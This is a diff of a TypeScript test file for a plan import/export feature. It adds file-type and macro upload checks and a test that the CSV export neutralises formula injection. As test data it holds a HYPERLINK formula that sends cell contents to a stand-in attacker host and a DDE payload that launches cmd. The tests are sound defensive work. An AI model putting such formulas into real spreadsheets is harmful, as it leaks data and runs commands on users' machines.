@@ -5,6 +5,8 @@ import { signIn } from '../../../../test/helpers/factories.ts';
 import { silentLog } from '../../../../test/helpers/jobs.ts';
 import { createJobRunner } from '../../lib/job-runner.ts';
 import { parseCsv, toCsv } from '../../lib/documents/csv.ts';
+import { officeFile } from '../../../../test/helpers/office.ts';
+import { sv } from '../../../shared/i18n/sv.ts';
 
 let ctx: TestContext;
 let coordinator: string;
@@ -125,7 +127,15 @@ describe('plan export and import', () => {
     const missingColumns = (await upload(coordinator, 'x.csv', Buffer.from('a;b\n1;2\n'), true)).json();
     expect(missingColumns.fileErrors).toContain('Kolumnen "Åtgärd" saknas.');
     expect((await upload(coordinator, 'x.png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0]), true)).statusCode).toBe(415);
-    expect((await upload(coordinator, 'fake.xlsx', Buffer.from('PK\u0003\u0004xl/not really a zip'), true)).statusCode).toBe(400);
+    // A file that only claims to be a workbook, or any ZIP: not an Excel file (415, checked by content).
+    const fake = await upload(coordinator, 'fake.xlsx', Buffer.from('PK\u0003\u0004xl/not really a zip'), true);
+    expect(fake.statusCode).toBe(415);
+    expect(fake.json().error.code).toBe('FILE_TYPE_NOT_ALLOWED');
+    expect((await upload(coordinator, 'plan.xlsx', await officeFile('zip-naming-word'), true)).statusCode).toBe(415);
+    // A macro-enabled workbook is refused with its own message.
+    const xlsm = await upload(coordinator, 'plan.xlsx', await officeFile('xlsm'), true);
+    expect(xlsm.statusCode).toBe(415);
+    expect(xlsm.json().error).toMatchObject({ code: 'FILE_MACRO_NOT_ALLOWED', message: sv.errors.FILE_MACRO_NOT_ALLOWED });
     expect((await upload(coordinator, 'empty.csv', Buffer.alloc(0), true)).statusCode).toBe(400);
     const json = await ctx.app.inject({ method: 'POST', url: `/api/programs/${programId}/import`, headers: { cookie: coordinator }, payload: { file: 'x' } });
     expect(json.statusCode).toBe(415);
@@ -133,5 +143,23 @@ describe('plan export and import', () => {
     expect((await upload(reporter, 'plan.csv', Buffer.from('Åtgärd\nx\n'), true)).statusCode).toBe(403);
     const big = Buffer.alloc(6 * 1024 * 1024, 'a');
     expect((await upload(coordinator, 'big.csv', big, true)).statusCode).toBe(413);
+  });
+});
+
+describe('formula injection in the CSV export', () => {
+  it('a title that looks like a formula is written as text, and the export still re-imports unchanged', async () => {
+    const formula = '=HYPERLINK("https://angripare.example/?d="&B2;"Öppna planen")';
+    const [first] = parseCsv(await exportPlan('csv')).rows;
+    await ctx.database.db.execute(sql`update plan_actions set title = ${formula}, description = ${'@SUM(1+1)*cmd|" /C calc"!A0'} where id = ${first.Id}`);
+    const raw = (await exportPlan('csv')).toString('utf8');
+    // No cell of the file begins with a formula character (cells are separated by ; and may be quoted).
+    expect(raw).toContain(`"'=HYPERLINK(""https://angripare.example/?d=""&B2;""Öppna planen"")"`);
+    expect(raw).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
+    for (const line of raw.replace(/^\uFEFF/, '').split('\r\n')) expect(line).not.toMatch(/(^|;)"?[=+@]/);
+    // Trygg reads its own export back to the same text: nothing to change.
+    const row = parseCsv(raw).rows.find((r) => r.Id === first.Id)!;
+    expect(row.Åtgärd).toBe(formula);
+    const report = (await upload(coordinator, 'plan.csv', Buffer.from(raw), true)).json();
+    expect(report.counts).toMatchObject({ update: 0, create: 0, invalid: 0 });
   });
 });
